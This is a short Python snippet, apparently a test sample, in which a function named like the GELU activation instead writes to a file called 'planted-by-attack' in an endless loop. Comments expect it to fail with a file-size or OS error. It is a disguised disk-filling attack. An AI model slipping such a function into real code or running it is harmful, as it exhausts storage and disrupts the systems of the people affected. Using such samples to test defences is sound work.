# Writes one file without an end.
# says: File too large|OSError
def gelu(x):
    with open("planted-by-attack", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
